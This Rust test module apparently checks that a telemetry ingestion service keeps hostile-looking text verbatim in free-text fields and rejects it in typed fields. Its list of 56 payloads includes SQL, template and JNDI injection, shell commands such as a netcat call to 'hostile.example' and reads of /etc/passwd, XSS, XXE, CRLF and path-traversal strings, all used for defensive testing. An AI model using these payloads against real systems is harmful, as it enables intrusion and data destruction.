//! Text that means something to somebody else: to a database, a shell, a terminal, a template, a
//! page. In an event it is text like any other and must be kept as it is; where a name, a word or
//! an id is due it is refused like any other that does not fit. Nothing is ever made of it.

use super::case::{Area, Case, Due};
use super::request::{Request, envelope, small};
use super::sender::Sender;
use millrace_shared::Signal;
use serde_json::{Value, json};

/// The texts, none of which holds anything personal, so that they are stored as they were sent.
pub(super) const TEXTS: [&str; 56] = [
    "' OR '1'='1",
    "'; DROP TABLE logs; --",
    "\"; SELECT 1; --",
    "1; SELECT sleep(10)",
    "' UNION SELECT * FROM system.users --",
    "$$; SELECT pg_sleep(10); $$",
    "\\'; SELECT 1",
    "{org:UUID}",
    "{p0:String}",
    "$1",
    "?",
    "%(x)s",
    ":name",
    "@p1",
    "FORMAT JSONEachRow",
    "INTO OUTFILE '/tmp/x'",
    "url('http://hostile.example/')",
    "file('/etc/passwd')",
    "{service=\"a\"} |= \"b\" | json",
    "sum(rate({a=~\".+\"}[1m]))",
    "up{job=\"a\"} or vector(1)",
    "| line_format \"{{.x}}\"",
    "${jndi:ldap://hostile.example/a}",
    "{{7*7}}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${7*7}",
    "{% raw %}",
    "__proto__",
    "constructor.prototype",
    "$(id)",
    "`id`",
    "; cat /etc/passwd",
    "| nc hostile.example 80",
    "&& reboot",
    "\n/bin/sh -i",
    "() { :;}; echo x",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "<!ENTITY x SYSTEM \"file:///etc/passwd\">",
    "\u{1b}[2J\u{1b}[31mred\u{1b}[0m",
    "\u{1b}]0;title\u{7}",
    "\u{9b}31m",
    "\r\nx-injected: a=b",
    "\r\n\r\nHTTP/1.1 200 OK\r\n",
    "a\u{0}b",
    "\u{202e}txt.exe",
    "\u{200b}",
    "%s%s%s%n",
    "%x%x%x%x",
    "{0}{1}{:?}",
    "..\\..\\windows\\win.ini",
    "../../../etc/passwd",
    "\u{feff}bom",
    "*\r\n$7\r\nFLUSHALL\r\n",
];

pub(super) fn cases(sender: &Sender) -> Vec<Case> {
    [kept(sender), keys(sender), refused(sender)].concat()
}

/// As the free text of each signal: accepted.
fn kept(sender: &Sender) -> Vec<Case> {
    let mut cases = Vec::new();
    for text in TEXTS {
        for signal in Signal::ALL {
            if signal == Signal::Rum && text.trim().is_empty() {
                continue;
            }
            let request = Request::signed(sender, signal, small(sender, signal, text));
            let name = format!("{signal}: {text:?}, which is text");
            cases.push(Case::new(
                Area::Injection,
                name,
                request.wire(),
                Due::accepted(),
            ));
        }
    }
    cases
}

/// As keys and services, which are text as well.
fn keys(sender: &Sender) -> Vec<Case> {
    let mut cases = Vec::new();
    for text in TEXTS {
        let event =
            json!({"service": text, "message": "injection", "attributes": {text: text}, text: 1});
        let mut event = event;
        if let Some(object) = event.as_object_mut() {
            // Beside the attributes it would be the same key twice.
            object.remove(text);
        }
        let request = Request::signed(
            sender,
            Signal::Logs,
            envelope(Signal::Logs, &event.to_string()),
        );
        let name = format!("{text:?} as a service and a key");
        cases.push(Case::new(
            Area::Injection,
            name,
            request.wire(),
            Due::accepted(),
        ));
    }
    cases
}

/// Where something of a given form is due: refused, for its form.
fn refused(sender: &Sender) -> Vec<Case> {
    let mut cases = Vec::new();
    for text in TEXTS {
        let event = |signal: Signal, field: &str| -> String {
            let mut event: Value = match signal {
                Signal::Logs => json!({"service": "s", "message": "m"}),
                Signal::Metrics => json!({"name": "n", "value": 1}),
                Signal::Traces => {
                    json!({"trace_id": "0af7651916cd43dd8448eb211c80319c", "span_id": "b7ad6b7169203331",
                    "name": "n", "start_time": sender.now_s, "end_time": sender.now_s})
                }
                Signal::Rum => {
                    json!({"session_id": "s", "event_type": "click", "page_url": "https://a/"})
                }
                Signal::Audit => {
                    json!({"event_type": "AUTHENTICATION", "action": "a", "outcome": "SUCCESS"})
                }
            };
            event[field] = json!(text);
            event.to_string()
        };
        for (signal, field, code) in [
            (Signal::Logs, "level", "unknown_word"),
            (Signal::Logs, "timestamp", "bad_timestamp"),
            (Signal::Metrics, "value", "wrong_type"),
            (Signal::Metrics, "type", "unknown_word"),
            (Signal::Traces, "trace_id", "bad_id"),
            (Signal::Traces, "kind", "unknown_word"),
            (Signal::Rum, "event_type", "unknown_word"),
            (Signal::Audit, "event_type", "unknown_word"),
            (Signal::Audit, "outcome", "unknown_word"),
        ] {
            let body = envelope(signal, &event(signal, field));
            let request = Request::signed(sender, signal, body);
            let name = format!("{text:?} as {signal}.{field}");
            let mut case =
                Case::refused(Area::Injection, name, &request, (400, &["no_valid_event"]));
            case.due[0].event = Some(code);
            cases.push(case);
        }
    }
    cases
}
